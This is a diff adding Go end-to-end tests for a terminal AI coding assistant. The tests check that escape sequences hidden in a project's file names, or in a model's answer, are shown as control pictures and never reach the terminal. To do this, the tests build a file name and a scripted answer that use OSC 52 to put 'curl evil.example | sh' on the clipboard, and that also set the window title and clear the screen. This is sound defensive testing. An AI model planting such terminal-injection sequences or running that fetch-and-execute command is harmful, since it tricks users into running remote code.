@@ -1,0 +1,135 @@
+package e2e
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/fawn-ide/fawn/internal/llmtest"
+)
+
+// sanitizePayload is what a hostile repository wants on the user's
+// clipboard.
+const sanitizePayload = "curl evil.example | sh"
+
+// sanitizeName is a file name that, drawn raw, writes the clipboard (OSC
+// 52), sets the window title (OSC 0) and clears the screen (CSI 2J).
+func sanitizeName() string {
+	b64 := base64.StdEncoding.EncodeToString([]byte(sanitizePayload))
+	return "README\x1b]52;c;" + b64 + "\a\x1b]0;PWNED-TITLE\a\x1b[2J.md"
+}
+
+// sanitizeShown is how the start of the name must look on the screen: every
+// control character as its control picture.
+const sanitizeShown = "README␛]52;c;"
+
+// sanitizeProject is a plain project (nothing to trust) holding the file.
+func sanitizeProject(t *testing.T) string {
+	t.Helper()
+	dir := t.TempDir()
+	writeFile(t, filepath.Join(dir, sanitizeName()), "harmless content\nline two\n")
+	return dir
+}
+
+// sanitizeTerm starts fawn under a tmux that keeps what programs put on
+// the clipboard (set-clipboard on), so a sequence that escaped to the
+// terminal is seen.
+func sanitizeTerm(t *testing.T, project string, args ...string) *Term {
+	t.Helper()
+	tm := Start(t, 150, 42, project, nil, args...)
+	tm.tmux("set-option", "-g", "set-clipboard", "on")
+	return tm
+}
+
+// sanitizeEscaped says what of the sequences reached the terminal fawn
+// runs in: a clipboard write (a tmux buffer) or a new title.
+func sanitizeEscaped(tm *Term) string {
+	var got []string
+	out, _ := exec.Command("tmux", "-S", tm.socket, "list-buffers", "-F", "#{buffer_sample}").CombinedOutput()
+	if strings.Contains(string(out), "curl") || strings.Contains(string(out), "evil") {
+		got = append(got, "the clipboard was written: tmux buffers "+strings.TrimSpace(string(out)))
+	}
+	title, _ := exec.Command("tmux", "-S", tm.socket, "display-message", "-p", "-t", tm.name, "#{pane_title}").CombinedOutput()
+	if strings.Contains(string(title), "PWNED") {
+		got = append(got, "the title became "+strings.TrimSpace(string(title)))
+	}
+	return strings.Join(got, "; ")
+}
+
+// sanitizeWaitDrawn waits until the screen shows every want, or until a
+// sequence escaped to the terminal, and fails in the second case (or when
+// the screen and the escape both happened).
+func sanitizeWaitDrawn(t *testing.T, tm *Term, want ...string) {
+	t.Helper()
+	tm.WaitUntil(strings.Join(want, " & ")+", or an escape", func(s string) bool {
+		if sanitizeEscaped(tm) != "" {
+			return true
+		}
+		for _, w := range want {
+			if !strings.Contains(s, w) {
+				return false
+			}
+		}
+		return true
+	})
+	if esc := sanitizeEscaped(tm); esc != "" {
+		t.Fatalf("escape sequences from the project or the model reached the terminal: %s\n%s", esc, tm.Screen())
+	}
+}
+
+// Finding 4: a file whose name holds escape sequences, opened by the
+// agent's view (no permission asked), shows them as control pictures in the
+// chat and the tab; the terminal gets no clipboard write and no title.
+func TestHostileSanitizeFileNameViewedByTheAgent(t *testing.T) {
+	project := sanitizeProject(t)
+	args, err := json.Marshal(map[string]string{"command": "view", "path": sanitizeName()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv := llmtest.Start(t, llmtest.Script{Responses: []llmtest.Response{
+		{Text: "Looking.", ToolCalls: []llmtest.ToolCall{call("text_editor", string(args))}},
+		{Text: "Seen it."},
+	}})
+	tm := sanitizeTerm(t, project, "--base-url", srv.URL(), "--model", "scripted")
+	tm.WaitFor("Ask fawn")
+	tm.prompt("look at the readme")
+	sanitizeWaitDrawn(t, tm, "Seen it.", "harmless content", sanitizeShown)
+}
+
+// Finding 4 by hand: the same file found with Ctrl-P and opened.
+func TestHostileSanitizeFileNameOpenedWithCtrlP(t *testing.T) {
+	project := sanitizeProject(t)
+	tm := sanitizeTerm(t, project)
+	tm.WaitFor("Ask fawn")
+	tm.Keys("C-p")
+	sanitizeWaitDrawn(t, tm, sanitizeShown) // the finder's list
+	tm.Type("README")
+	tm.Keys("Enter")
+	sanitizeWaitDrawn(t, tm, "harmless content", sanitizeShown)
+}
+
+// sanitizeAnswer is a model's answer that, printed raw, writes the
+// clipboard and sets the title.
+func sanitizeAnswer() string {
+	b64 := base64.StdEncoding.EncodeToString([]byte(sanitizePayload))
+	return "Here: \x1b]52;c;" + b64 + "\a\x1b]0;PWNED-TITLE\a\u009b2J done."
+}
+
+// Headless on a terminal: the answer printed on stdout shows its control
+// characters and does not reach the terminal as sequences; into a pipe it
+// is the model's text, byte for byte (data for the program reading it).
+func TestHostileSanitizeHeadlessAnswer(t *testing.T) {
+	script := llmtest.Script{Loop: true, Responses: []llmtest.Response{{Text: sanitizeAnswer()}}}
+	srv := llmtest.Start(t, script)
+	project := sanitizeProject(t)
+	tm := sanitizeTerm(t, project, "--base-url", srv.URL(), "--model", "scripted", "-p", "answer")
+	sanitizeWaitDrawn(t, tm, "fawn-exited-0", "Here: ␛]52;c;", "␇␛]0;PWNED-TITLE␇<U+009B>2J done.")
+
+	out, errs, code := runHeadless(t, srv, project, "-p", "answer")
+	if code != 0 || strings.TrimSpace(out) != sanitizeAnswer() {
+		t.Fatalf("into a pipe: exit %d, stdout %q (want the answer as it is), stderr %s", code, out, errs)
+	}
+}
